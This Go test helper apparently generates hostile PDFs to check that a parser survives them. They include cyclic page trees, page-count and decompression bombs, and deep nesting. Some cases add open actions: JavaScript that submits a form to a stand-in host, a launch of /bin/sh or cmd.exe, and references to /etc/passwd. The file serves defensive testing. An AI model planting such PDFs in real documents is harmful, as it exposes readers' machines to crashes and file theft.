package hostile

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// plainPDF is a PDF of one page; more stands in its catalogue.
func plainPDF(more string) string {
	return objects("<< /Type /Catalog /Pages 2 0 R "+more+" >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
}

// objects is a PDF of objects, the first being its catalogue.
func objects(list ...string) string {
	var out strings.Builder
	out.WriteString("%PDF-1.7\n")
	var places []int
	for i, object := range list {
		places = append(places, out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	at := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(list)+1)
	for _, place := range places {
		fmt.Fprintf(&out, "%010d 00000 n \n", place)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(list)+1, at)
	return out.String()
}

const catalogue = "<< /Type /Catalog /Pages 2 0 R >>"

func stream(dictionary, content string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dictionary, len(content), content)
}

// pdf is one that never ends, that grows, or that does something when it is opened.
func pdf(r *rand.Rand) (string, []byte, bool) {
	content, name := "", "plan.pdf"
	switch r.IntN(12) {
	case 0: // a tree of pages that comes back to its root
		content = objects(catalogue, "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000000 >>", "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 999999 >>")
	case 1: // a million pages, all of them one
		content = objects(catalogue, "<< /Type /Pages /Kids ["+strings.Repeat("3 0 R ", 5000)+"] /Count 1000000 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
	case 2: // each node has the next one ten times: 10^9 pages
		list := []string{catalogue}
		for i := range 9 {
			list = append(list, "<< /Type /Pages /Count 1000000000 /Kids ["+strings.Repeat(fmt.Sprintf("%d 0 R ", i+3), 10)+"] >>")
		}
		content = objects(append(list, "<< /Type /Page /MediaBox [0 0 9 9] >>")...)
	case 3: // tables of places that lead to each other
		content = strings.Replace(plainPDF(""), "/Root 1 0 R", "/Root 1 0 R /Prev 9", 1)
		content = strings.Replace(content, "%PDF-1.7\n", "%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n", 1)
	case 4:
		content = plainPDF("/OpenAction << /S /JavaScript /JS (app.alert('" + Canary + "'); this.submitForm('http://ailleurs.example')) >>")
	case 5:
		content = plainPDF("/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >> /AA << /WC << /S /URI /URI (file:///etc/passwd) >> >>")
	case 6: // 40 MB of drawing in some kilobytes
		content = objects(catalogue, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
			stream("/Filter /FlateDecode", deflated(strings.Repeat("0 0 m 9 9 l S\n", 100_000))))
	case 7: // a form that draws itself
		content = objects(catalogue, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> >>",
			stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>", "/X Do /X Do"), stream("", "/X Do"))
	case 8: // arrays in arrays
		content = plainPDF("/Names " + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000))
	case 9: // a sheet of 10^9 points
		content = strings.Replace(plainPDF(""), "[0 0 200 200]", "[0 0 1000000000 1000000000]", 1)
	case 10: // a picture of 60,000 by 60,000
		content = objects(catalogue, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> >>",
			stream("/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode", deflated(strings.Repeat("\x00", 1<<20))),
			stream("", "200 0 0 200 0 0 cm /X Do"))
	default: // a file of the machine as a picture
		content = objects(catalogue, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
			"<< /Length 10 /F (/etc/passwd) /FFilter [/ASCIIHexDecode] >>\nstream\n0123456789\nendstream")
	}
	return name, []byte(content + "% " + word(r) + "\n"), false
}
